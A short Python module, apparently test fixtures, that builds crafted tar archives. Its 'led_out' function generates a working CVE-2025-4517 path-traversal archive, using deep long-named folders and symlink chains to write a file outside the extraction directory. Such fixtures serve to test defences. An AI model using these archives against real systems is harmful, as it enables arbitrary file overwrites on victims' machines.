"""Archives as nobody's tar makes them."""

import io
import tarfile

FILE, FOLDER, LINK, HARD, PIPE = tarfile.REGTYPE, tarfile.DIRTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE
Member = tuple[bytes, str] | tuple[bytes, str, str]
TOO_LONG = "d" * 247, "abcdefghijklmnop"
"""Folders that are deeper than a path may be long, and links that stand for them."""


def packed(*members: Member) -> bytes:
    """Of a file the third is its content, of a link where it leads."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for kind, name, *more in members:
            member = tarfile.TarInfo(name)
            member.type = kind
            if kind in (LINK, HARD):
                (member.linkname,) = more
            data = "".join(more).encode() if kind == FILE else b""
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return content.getvalue()


def led_out(target: str) -> bytes:
    """CVE-2025-4517: where the links of a path are too long to be followed to their end, `..` behind them is taken for one of the names."""
    name, steps = TOO_LONG
    members: list[Member] = []
    path = ""
    for step in steps:
        members += [(FOLDER, f"{path}{name}"), (LINK, f"{path}{step}", name)]
        path += f"{name}/"
    long = f"{'/'.join(steps)}/{'l' * 254}"
    return packed(*members, (LINK, long, "../" * len(steps)), (LINK, "escape", f"{long}/{target}"), (FILE, "escape/out", "bad"))
